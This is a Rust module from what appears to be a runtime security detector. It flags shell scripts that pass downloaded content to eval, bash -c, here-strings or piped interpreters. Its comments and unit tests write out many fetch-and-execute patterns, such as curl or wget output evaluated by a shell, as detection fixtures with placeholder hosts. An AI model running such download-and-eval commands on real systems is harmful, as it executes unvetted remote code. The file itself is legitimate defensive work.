//! A download a shell script hands to `eval`: `eval "$(curl -s URL)"`, `eval $(wget -qO- URL)`,
//! ``eval `curl URL` ``. The script's shell reads the command substitution's pipe itself and
//! runs the text with no exec and no open, so the pipe checks (`pipes.rs`) see a downloader
//! writing into a pipe nothing exec'd reads, and then whatever the download runs. What tells
//! the eval from a script that only parses what it fetched is the script's own text: the edge
//! reads it at the shell's exec (the first 64 KiB of a shell's script operand) and keeps the
//! commands of the substitutions it evaluates ([`evaluated_substitutions`]). A downloader the
//! shell then runs with its output on a pipe, named by one of them, is the download evaluated.

use vigil_crds::finding::RuntimeContext;
use vigil_detection::FindingType;

use super::{
    Candidate, Detector, ProcessLookup,
    bounded::FifoMap,
    path_basename,
    redact::redacted_command_line,
    technique::{Raises, draft, listed, program_identity, program_name, technique},
};
use crate::event::ExecInfo;

/// Substitutions kept per script.
pub const MAX_EVALUATED: usize = 4;
/// Bytes kept of each substitution's command.
pub const MAX_EVALUATED_BYTES: usize = 256;
/// Shells remembered running a script that evaluates a substitution.
pub(crate) const MAX_SHELLS: usize = 1024;

/// The commands of the command substitutions a shell script hands to `eval` (`eval
/// "$(curl -s URL)"`, `eval $(wget -qO- URL)`, ``eval `curl URL` ``), or keeps in a variable
/// that a later line runs ([`runs_variable`]: `v=$(curl URL); eval "$v"`, `sh -c "$v"`,
/// `echo "$v" | bash`, `bash <<< "$v"`), in order, at most [`MAX_EVALUATED`], each trimmed and
/// cut at [`MAX_EVALUATED_BYTES`]. Comment lines are skipped; a substitution nested in another
/// is not followed; at most [`MAX_VARIABLES`] variables are remembered (the last assignment of
/// a name wins).
pub fn evaluated_substitutions(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut variables: Vec<(&str, &str)> = Vec::new();
    let keep = |out: &mut Vec<String>, cmd: &str| {
        let cmd = cmd.trim();
        if cmd.is_empty() || out.iter().any(|c| c == cmd) {
            return;
        }
        let mut cut = cmd.len().min(MAX_EVALUATED_BYTES);
        while !cmd.is_char_boundary(cut) {
            cut -= 1;
        }
        out.push(cmd[..cut].to_owned());
    };
    for line in text.lines() {
        if line.trim_start().starts_with('#') {
            continue;
        }
        // A variable a line runs, assigned from a substitution on an earlier line (or earlier
        // on this one: `v=$(curl URL); eval "$v"`): judged before this line's assignments
        // replace it.
        for (name, cmd) in &variables {
            if runs_variable(line, name) {
                keep(&mut out, cmd);
            }
        }
        let mut rest = line;
        while let Some(at) = rest.find("eval") {
            let before_ok = word_start(&rest[..at]);
            let after = &rest[at + 4..];
            rest = after;
            if !before_ok || !after.starts_with(|c: char| c.is_whitespace()) {
                continue;
            }
            if let Some(cmd) = substitution(after.trim_start()) {
                keep(&mut out, cmd);
            }
        }
        for (name, cmd) in assignments(line) {
            if runs_variable(line, name) {
                keep(&mut out, cmd);
            }
            variables.retain(|(n, _)| *n != name);
            if variables.len() >= MAX_VARIABLES {
                variables.remove(0);
            }
            variables.push((name, cmd));
        }
        if out.len() >= MAX_EVALUATED {
            out.truncate(MAX_EVALUATED);
            return out;
        }
    }
    out
}

/// Variables assigned from a substitution remembered per script.
pub const MAX_VARIABLES: usize = 16;

/// Whether what precedes a word ends where a shell word may start.
fn word_start(before: &str) -> bool {
    before
        .chars()
        .next_back()
        .is_none_or(|c| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '{'))
}

/// The command of the substitution `arg` starts with (`"$(cmd)"`, `$(cmd)`, `` `cmd` ``),
/// up to its first closing parenthesis or backquote.
fn substitution(arg: &str) -> Option<&str> {
    let arg = arg.trim_start_matches(['"', '\'']);
    let inner = if let Some(body) = arg.strip_prefix("$(") {
        body.find(')').map(|end| &body[..end])
    } else if let Some(body) = arg.strip_prefix('`') {
        body.find('`').map(|end| &body[..end])
    } else {
        None
    };
    inner.map(str::trim).filter(|c| !c.is_empty())
}

/// The assignments of a substitution on a line (`v=$(curl URL)`, `local v="$(wget -qO- URL)"`,
/// ``export v=`curl URL` ``): each variable's name and the substitution's command.
fn assignments(line: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(eq) = line[from..].find('=').map(|i| from + i) {
        from = eq + 1;
        let name_start = line[..eq]
            .char_indices()
            .rev()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_'))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let name = &line[name_start..eq];
        if name.is_empty()
            || name.starts_with(|c: char| c.is_ascii_digit())
            || !word_start(&line[..name_start])
        {
            continue;
        }
        if let Some(cmd) = substitution(&line[eq + 1..]) {
            found.push((name, cmd));
        }
    }
    found
}

/// Shells and interpreters whose `-c`/`-e` operand, or standard input, is code.
const RUNNERS: [&str; 13] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "busybox", "python", "python3", "perl",
    "ruby", "php",
];

/// Whether a command word names one of [`RUNNERS`] (`sh`, `/bin/bash`, `python3.11`).
fn is_runner(word: &str) -> bool {
    let word = word.trim_start_matches(['(', '{', '"', '\'']);
    let name = word.rsplit('/').next().unwrap_or(word);
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    RUNNERS.contains(&name) || RUNNERS.contains(&word.rsplit('/').next().unwrap_or(word))
}

/// Whether `line` runs the value of variable `name` as code: `eval "$name"`, a shell or
/// interpreter given it as `-c`/`-e` code (`bash -c "$name"`, `python3 -c "$name"`), or fed
/// it on standard input (`echo "$name" | sh`, `printf '%s' "$name" | bash -s`,
/// `bash <<< "$name"`, `source /dev/stdin <<< "$name"`).
fn runs_variable(line: &str, name: &str) -> bool {
    let Some(at) = reference(line, name) else {
        return false;
    };
    let words = |s: &str| -> Vec<String> {
        s.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '{' | '}'))
            .map(|w| w.trim_matches(['"', '\'']))
            .filter(|w| !w.is_empty())
            .map(str::to_owned)
            .collect()
    };
    let before = &line[..at];
    // The command the reference is an argument of: the words since the last `|`, `;` or `&`.
    let command_start = before.rfind([';', '&', '|']).map_or(0, |i| i + 1);
    let command = words(&before[command_start..]);
    let first = command.first().map(String::as_str).unwrap_or("");
    if first == "eval" || first == "exec" && command.get(1).is_some_and(|w| w == "eval") {
        return true;
    }
    if is_runner(first) && command.last().is_some_and(|w| w == "-c" || w == "-e") {
        return true;
    }
    // Fed on standard input: a here-string to a runner or to `source`/`.`.
    if command.last().is_some_and(|w| w == "<<<")
        && (is_runner(first) || first == "source" || first == ".")
    {
        return true;
    }
    // Piped into a runner: `echo "$v" | sh`, `printf '%s\n' "$v" | bash -s`.
    let after = &line[at..];
    let Some(pipe) = after
        .find('|')
        .filter(|&i| !after[i + 1..].starts_with('|'))
    else {
        return false;
    };
    let between = &after[..pipe];
    if between.contains([';', '&']) {
        return false;
    }
    matches!(first, "echo" | "printf" | "cat")
        && words(&after[pipe + 1..])
            .first()
            .is_some_and(|w| is_runner(w))
}

/// Where `line` first expands `$name` or `${name}` (not a longer name: `$name2`).
fn reference(line: &str, name: &str) -> Option<usize> {
    let plain = format!("${name}");
    let braced = format!("${{{name}}}");
    let mut from = 0;
    while let Some(i) = line[from..].find(&plain).map(|i| from + i) {
        let next = line[i + plain.len()..].chars().next();
        if !next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
            return Some(i);
        }
        from = i + plain.len();
    }
    line.find(&braced)
}

/// A shell running a script that evaluates command substitutions.
#[derive(Debug)]
struct Evaluating {
    uuid: String,
    /// The script's path, as exec'd, or the shell's command line (redacted) for a command
    /// string.
    script: String,
    /// `script` or `command string`: where the commands were read.
    read_from: &'static str,
    commands: Vec<String>,
}

/// Shells whose script evaluates command substitutions, by pid, first in first out; the entry
/// goes when the process execs something else or exits.
#[derive(Debug)]
pub(crate) struct EvalShells {
    shells: FifoMap<u32, Evaluating>,
}

impl Default for EvalShells {
    fn default() -> Self {
        Self {
            shells: FifoMap::new(MAX_SHELLS),
        }
    }
}

impl EvalShells {
    /// The exec replaced the process's image: remember it when it is a shell whose script
    /// evaluates substitutions, forget it otherwise.
    ///
    /// The commands are the script's ([`ExecInfo::script_evals`], read by the edge), or, for a
    /// shell given a command string (`sh -c 'v=$(curl URL); eval "$v"'`), that string's, read
    /// here when it holds a substitution at all.
    pub(crate) fn on_exec(&mut self, d: &Detector, e: &ExecInfo) {
        let b = d.rules.behaviour();
        if !listed(&b.shells, program_identity(d, e)) {
            self.shells.remove(&e.process.pid);
            return;
        }
        let (script, commands) = if e.script_evals.is_empty() {
            let commands = super::command_loop::command_string(&e.argv)
                .filter(|c| c.contains("$(") || c.contains('`'))
                .map(evaluated_substitutions)
                .unwrap_or_default();
            if commands.is_empty() {
                self.shells.remove(&e.process.pid);
                return;
            }
            ((redacted_command_line(&e.argv), "command string"), commands)
        } else {
            let script = super::script_operand(&d.rules, &e.argv).unwrap_or(&e.filename);
            ((script.to_owned(), "script"), e.script_evals.clone())
        };
        let (script, read_from) = script;
        self.shells.insert(
            e.process.pid,
            Evaluating {
                uuid: e.process.uuid.clone(),
                script,
                read_from,
                commands,
            },
        );
    }

    /// The process exited.
    pub(crate) fn forget(&mut self, pid: u32) {
        self.shells.remove(&pid);
    }

    /// Entries held and evicted.
    pub(crate) fn tracked(&self) -> (usize, u64) {
        (self.shells.len(), self.shells.evicted())
    }
}

/// A downloader a shell runs with its output on a pipe (the shell's command substitution),
/// where the shell's script evaluates a substitution whose command is that downloader.
pub(crate) fn check_exec(
    d: &Detector,
    table: &EvalShells,
    e: &ExecInfo,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    e.stdout_pipe?;
    let b = d.rules.behaviour();
    let name = program_identity(d, e);
    if !listed(&b.downloaders, name) {
        return None;
    }
    // The script's shell, or a subshell of it (a fork running the same shell, not exec'd:
    // `eval "$(curl URL | base64 -d)"` runs the pipeline's programs from one).
    let tracked = |a: &crate::event::Ancestor| {
        table
            .shells
            .get(&a.pid)
            .filter(|s| s.uuid.is_empty() || a.uuid.is_empty() || s.uuid == a.uuid)
    };
    let first = e.lineage.first()?;
    let (parent, shell) = match tracked(first) {
        Some(shell) => (first, shell),
        None => {
            let second = e.lineage.get(1)?;
            let shell = tracked(second)?;
            if first.exe.is_none() || first.exe != second.exe {
                return None;
            }
            (second, shell)
        }
    };
    let evaluated = shell.commands.iter().find(|c| {
        c.split_whitespace()
            .next()
            .is_some_and(|w| program_name(path_basename(std::path::Path::new(w))) == name)
    })?;
    let writer = e.exe.display().to_string();
    let command_line = redacted_command_line(&e.argv);
    let shell_exe = parent
        .exe
        .as_ref()
        .map(|p| p.display().to_string())
        .unwrap_or_else(|| parent.comm.clone());
    let mut context = RuntimeContext {
        command_line_example: Some(command_line.clone()),
        ..RuntimeContext::default()
    };
    let a = &mut context.additional;
    a.insert("pipeWriter".into(), writer.clone());
    a.insert("pipeWriterPid".into(), e.process.pid.to_string());
    a.insert("pipeWriterCommandLine".into(), command_line.clone());
    a.insert(
        "programReadFrom".into(),
        format!("a command substitution its {} evaluates", shell.read_from),
    );
    a.insert("evaluatedBy".into(), shell_exe.clone());
    a.insert("evaluatedByPid".into(), parent.pid.to_string());
    a.insert("script".into(), shell.script.clone());
    a.insert(
        "evaluatedCommand".into(),
        redacted_command_line(
            &evaluated
                .split_whitespace()
                .map(str::to_owned)
                .collect::<Vec<_>>(),
        ),
    );
    Some(technique(
        d,
        &e.process,
        lookup,
        Raises {
            finding_type: FindingType::ExecutionSuspiciousCommand,
            rule: "behaviour-download-pipe-exec",
            mitre: "T1059.004,T1105",
            severity: Some(8.0),
        },
        draft(
            "A shell ran code downloaded into it through a pipe",
            format!(
                "Process {} (pid {}, {shell_exe}) runs a {} ({}) that runs as code what {writer} \
                 (pid {}) downloads with `{}`.",
                parent.comm, parent.pid, shell.read_from, shell.script, e.process.pid, command_line
            ),
            format!("behaviour-download-pipe-exec\0{command_line}"),
            context,
        ),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_substitutions_a_script_hands_to_eval() {
        for (text, want) in [
            (
                "eval \"$(curl -s http://h/x.sh)\"\n",
                vec!["curl -s http://h/x.sh"],
            ),
            ("eval $(wget -qO- http://h/x)", vec!["wget -qO- http://h/x"]),
            ("eval `curl -fsSL h/x`", vec!["curl -fsSL h/x"]),
            ("set -e; eval \"$( curl h )\"", vec!["curl h"]),
            (
                "#!/bin/sh\n# eval \"$(curl old)\"\nif true; then eval \"$(ssh-agent -s)\"; fi\n",
                vec!["ssh-agent -s"],
            ),
            // Not an eval of a substitution, or not the word eval.
            (
                "eval \"$cmd\"\nretrieval $(curl x)\nevaluate $(curl y)\n",
                vec![],
            ),
            // A substitution kept in a variable that a later line runs.
            (
                "v=$(curl -s http://h/x.sh)\neval \"$v\"\n",
                vec!["curl -s http://h/x.sh"],
            ),
            ("v=$(curl -s h/a); eval $v", vec!["curl -s h/a"]),
            (
                "local payload=\"$(wget -qO- h/p)\"\nbash -c \"$payload\"\n",
                vec!["wget -qO- h/p"],
            ),
            (
                "export P=`curl h/q`\necho \"${P}\" | sh\n",
                vec!["curl h/q"],
            ),
            (
                "c=$(curl h/r)\nprintf '%s' \"$c\" | bash -s\n",
                vec!["curl h/r"],
            ),
            ("c=$(curl h/s)\nbash <<< \"$c\"\n", vec!["curl h/s"]),
            (
                "c=$(curl h/t)\nsource /dev/stdin <<< \"$c\"\n",
                vec!["curl h/t"],
            ),
            ("c=$(curl h/u)\npython3 -c \"$c\"\n", vec!["curl h/u"]),
            // Kept and used as data, a longer name, or replaced before it runs.
            (
                "v=$(curl -s h/v)\necho \"$v\" > out.txt\njq . <<< \"$v\"\ngrep x <<< \"$v\" | sh_lint\n",
                vec![],
            ),
            ("v=$(curl h/w)\neval \"$v2\"\n", vec![]),
            ("v=$(curl h/x)\nv=$(date)\neval \"$v\"\n", vec!["date"]),
            ("ver=$(uname -r)\nif [ \"$ver\" = x ]; then :; fi\n", vec![]),
            // Text that is not ASCII around an `=`.
            (
                "é=$(curl h/y)\néé v=$(curl h/z); eval \"$v\" ü=1\n",
                vec!["curl h/z"],
            ),
        ] {
            assert_eq!(evaluated_substitutions(text), want, "{text}");
        }
        let many: String = (0..10).map(|i| format!("eval $(a{i})\n")).collect();
        assert_eq!(evaluated_substitutions(&many).len(), MAX_EVALUATED);
        // The same command evaluated again is kept once.
        assert_eq!(evaluated_substitutions(&"eval $(a)\n".repeat(3)), ["a"]);
        // Past MAX_VARIABLES assignments, the oldest is forgotten.
        let mut text: String = (0..=MAX_VARIABLES)
            .map(|i| format!("v{i}=$(curl h/{i})\n"))
            .collect();
        text.push_str("eval \"$v0\"\neval \"$v1\"\n");
        assert_eq!(evaluated_substitutions(&text), ["curl h/1"]);
        let long = format!("eval $(curl {})", "é".repeat(400));
        let got = evaluated_substitutions(&long);
        assert!(got[0].len() <= MAX_EVALUATED_BYTES, "{}", got[0].len());
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]

        /// A script's text is the workload's: any text, shaped like assignments and evals
        /// around characters of any width, is read without a panic and within the bounds.
        #[test]
        fn any_script_text_is_read_within_bounds(
            text in "([a-zé_ü]{0,3}=?\\$?\\(?[a-z é\"';|&<`{}]{0,6}\\)?\n?){0,40}",
        ) {
            let got = evaluated_substitutions(&text);
            proptest::prop_assert!(got.len() <= MAX_EVALUATED);
            proptest::prop_assert!(got.iter().all(|c| c.len() <= MAX_EVALUATED_BYTES));
        }
    }
}
